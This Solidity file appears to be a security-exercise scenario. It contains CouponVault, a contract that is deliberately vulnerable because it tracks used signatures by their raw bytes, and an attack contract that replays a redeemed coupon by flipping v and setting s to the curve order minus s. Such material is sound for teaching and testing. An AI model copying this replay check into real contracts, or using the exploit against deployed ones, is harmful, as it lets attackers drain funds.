// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Remembers signatures by their bytes; every signature has a twin.
contract CouponVault {
    IERC20 public immutable asset;
    address public immutable treasurer;
    mapping(bytes32 => bool) public used;

    event Paid(address indexed to, uint256 amount);

    constructor(IERC20 asset_, address treasurer_) {
        (asset, treasurer) = (asset_, treasurer_);
    }

    function digest(uint256 amount) public view returns (bytes32) {
        return keccak256(abi.encode(address(this), amount));
    }

    function redeem(uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 id = keccak256(abi.encode(v, r, s));
        require(!used[id], "used");
        used[id] = true;
        require(ecrecover(digest(amount), v, r, s) == treasurer, "signature");
        asset.transfer(msg.sender, amount);
        emit Paid(msg.sender, amount);
    }

    function fund(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
    }
}

contract SignatureMalleabilityScene is Scene {
    Token public usd;
    CouponVault public vault;
    uint8 public v;
    bytes32 public r;
    bytes32 public s;
    uint256 public constant COUPON = 700_000e18;

    constructor(Bank b, address t, address s_) payable Scene(b, t, s_) {
        usd = _usd();
        vault = new CouponVault(IERC20(address(usd)), signer);
        usd.mint(address(vault), 1_800_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
        digest = vault.digest(COUPON);
    }

    /// The coupon was redeemed before, by its owner.
    function signed(uint8 v_, bytes32 r_, bytes32 s_) external override {
        (v, r, s) = (v_, r_, s_);
        vault.redeem(COUPON, v_, r_, s_);
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(vault));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        return (address(vault), 0, abi.encodeCall(CouponVault.fund, (_amount(dice, 10e18, 900e18))));
    }
}

contract SignatureMalleabilityAttack is Attack {
    uint256 private constant ORDER = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
    CouponVault private immutable vault;
    uint8 private immutable v;
    bytes32 private immutable r;
    bytes32 private immutable s;
    uint256 private immutable amount;

    constructor(SignatureMalleabilityScene scene) Attack(scene) {
        (vault, v, r, s, amount) = (scene.vault(), scene.v(), scene.r(), scene.s(), scene.COUPON());
    }

    function _act(uint256, uint256 index, uint256) internal override {
        if (index == 0) vault.redeem(amount, v == 27 ? 28 : 27, r, bytes32(ORDER - uint256(s)));
    }
}
